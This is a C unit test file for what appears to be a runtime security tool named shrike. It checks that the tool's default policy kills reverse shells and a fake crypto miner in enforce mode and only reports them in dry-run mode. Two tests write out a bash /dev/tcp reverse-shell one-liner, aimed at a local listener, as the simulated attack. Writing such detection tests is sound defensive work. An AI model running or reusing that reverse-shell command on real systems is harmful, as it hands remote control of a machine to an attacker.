/* SPDX-License-Identifier: Apache-2.0 */
/*
 * System tier for `shrike run` with no --policy: shrike's own rules plus
 * policies/default.yaml. Reverse shells and miners are denied in the kernel
 * and their trees killed in enforce mode (the responses say done and the
 * process is gone); with --dry-run
 * the same attacks are only reported (would) and the miner keeps running.
 * Needs root.
 */
#include <errno.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
#include <cmocka.h>

#include "runlib.h"
#include "testlib.h"

static char *dir;
static int port;

/* A long-running "miner" (a renamed sleep); returns its pid. */
static pid_t start_miner(void)
{
	char bin[1100];
	pid_t p;

	snprintf(bin, sizeof(bin), "%s/xmrig", dir);
	p = fork();
	if (p == 0) {
		execl(bin, "xmrig", "30", (char *)NULL);
		_exit(127);
	}
	return p;
}

static bool exited_by_sigkill(pid_t p, int ms)
{
	int st;

	for (int i = 0; i < ms / 10; i++) {
		if (waitpid(p, &st, WNOHANG) == p)
			return WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL;
		usleep(10 * 1000);
	}
	return false;
}

static int setup(void **state)
{
	char cmd[2200];

	dir = test_tmpdir();
	port = test_attacker_listener();
	snprintf(cmd, sizeof(cmd), "cp /bin/sleep %s/xmrig", dir);
	return system(cmd) ? -1 : 0;
}

static void test_enforce_kills_shells_and_miners(void **state)
{
	struct shrike_run run;
	const cJSON *a, *r;
	pid_t miner;
	bool killed;

	shrike_run_start(&run, dir, NULL);
	test_attack(dir, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", port);
	miner = start_miner();
	killed = exited_by_sigkill(miner, 2000);
	if (!killed) {
		kill(miner, SIGKILL);
		waitpid(miner, NULL, 0);
	}
	shrike_run_stop(&run);

	/* "Reverse shell" is denied in the kernel (the shell is killed at
	 * exec); several reverse-shell rules also kill the tree: the first
	 * to act kills it, later ones find it gone. */
	int done = 0, gone = 0, other = 0, denied = 0;

	for (int i = 0; i < run.nalerts; i++) {
		const char *tags = cJSON_PrintUnformatted(cJSON_GetObjectItem(run.alerts[i], "tags"));
		const cJSON *resp = cJSON_GetObjectItem(run.alerts[i], "response");

		if (tags && strstr(tags, "reverse_shell"))
			cJSON_ArrayForEach(r, resp) {
				const char *o = shrike_json_str(r, "outcome"), *e = shrike_json_str(r, "error");

				assert_string_equal(shrike_json_str(r, "mode"), "enforce");
				if (!strcmp(shrike_json_str(r, "action"), "deny")) {
					assert_string_equal(shrike_json_str(run.alerts[i], "rule"), "Reverse shell");
					assert_string_equal(shrike_json_str(r, "from"),
							    "Deny reverse shells in the kernel");
					assert_string_equal(o, "done");
					assert_non_null(strstr(shrike_json_str(r, "target"), "kernel"));
					denied++;
					continue;
				}
				assert_string_equal(shrike_json_str(r, "action"), "kill");
				assert_string_equal(shrike_json_str(r, "scope"), "process_tree");
				assert_string_equal(shrike_json_str(r, "from"), "Block reverse shells");
				if (!strcmp(o, "done"))
					done++;
				else if (!strcmp(o, "failed") && e && !strcmp(e, "target already exited"))
					gone++;
				else
					other++;
			}
		free((void *)tags);
	}
	fprintf(stderr, "reverse shell: %d denied in the kernel; tree kills: %d done, %d already "
		"gone, %d other\n", denied, done, gone, other);
	assert_true(denied >= 1);
	assert_true(done + gone >= 1);
	assert_int_equal(other, 0);

	a = shrike_run_find(&run, "Crypto miner started", "proc.name", "xmrig");
	r = shrike_response0(a);
	assert_non_null(r);
	assert_string_equal(shrike_json_str(r, "action"), "deny"); /* in the kernel, at exec */
	assert_string_equal(shrike_json_str(r, "outcome"), "done");
	assert_true(killed);
	shrike_run_free(&run);
}

static void test_dry_run_only_reports(void **state)
{
	const char *args[] = { "--dry-run", NULL };
	struct shrike_run run;
	const cJSON *a, *r;
	pid_t miner;
	bool killed;

	shrike_run_start(&run, dir, args);
	test_attack(dir, "bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", port);
	miner = start_miner();
	killed = exited_by_sigkill(miner, 700);
	kill(miner, SIGKILL);
	waitpid(miner, NULL, 0);
	shrike_run_stop(&run);

	a = shrike_run_find(&run, "Reverse shell", "proc.cmdline", "bash -i");
	r = shrike_response0(a);
	assert_non_null(r);
	assert_string_equal(shrike_json_str(r, "mode"), "audit");
	assert_string_equal(shrike_json_str(r, "outcome"), "would");
	a = shrike_run_find(&run, "Crypto miner started", "proc.name", "xmrig");
	r = shrike_response0(a);
	assert_non_null(r);
	assert_string_equal(shrike_json_str(r, "outcome"), "would");
	assert_false(killed);
	shrike_run_free(&run);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_enforce_kills_shells_and_miners),
		cmocka_unit_test(test_dry_run_only_reports),
	};

	test_require_root("the system tier (loads BPF sensors, kills processes)");
	if (access("/etc/shrike/policies", F_OK) == 0) {
		fprintf(stderr, "SKIP: /etc/shrike/policies exists and would replace the defaults under test\n");
		return TEST_SKIP;
	}
	return cmocka_run_group_tests(tests, setup, NULL);
}
